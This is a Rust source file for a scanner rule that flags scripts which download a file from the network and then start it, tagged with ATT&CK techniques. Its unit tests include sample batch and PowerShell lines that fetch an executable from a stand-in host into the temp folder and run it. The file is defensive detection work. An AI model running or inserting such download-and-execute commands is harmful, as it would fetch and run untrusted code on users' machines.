//! A script that fetches a file in the open and starts one in a folder for data. Administrators install programs so; they
//! do not mail the script to those who use them.

use super::{Check, Heuristic};
use crate::artifact::{Sign, Tree};
use crate::detect::Strength;
use crate::detect::scripts::scripts;

pub(super) const RULE: Heuristic = Heuristic {
    id: "script-starts-what-it-fetches",
    strength: Strength::Medium,
    title_en: "A script fetches a file from the network and starts it",
    title_ja: "スクリプトが、ファイルをダウンロードして実行します",
    attack: &["T1059.001", "T1059.003", "T1105"],
    page: include_str!("../../../docs/rules/script-starts-what-it-fetches.md"),
    check,
};

fn check(tree: &Tree, hit: &mut Check) {
    for script in scripts(tree) {
        let fetches = script.first(Sign::Download);
        if let Some(shown) = fetches.and_then(|_| script.first(Sign::PlainStart)) {
            hit(script.holder.id, shown.to_string());
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::scripts::tests::hits;

    #[test]
    fn what_is_fetched_and_started_hits() {
        for (name, source, want) in [
            ("a.bat", "curl -o %TEMP%\\t.exe http://a.test/t\r\nstart \"\" %TEMP%\\t.exe", 1),
            (
                "a.ps1",
                "Start-BitsTransfer http://a.test/t -Destination $env:TEMP\\t.exe\n& $env:TEMP\\t.exe",
                1,
            ),
            ("a.bat", "start \"\" %TEMP%\\t.exe", 0),
            ("a.bat", "curl -o data.csv https://a.example/data.csv\r\nstart excel data.csv", 0),
        ] {
            assert_eq!(hits(&RULE, name, source.as_bytes()).len(), want, "{source}");
        }
    }
}
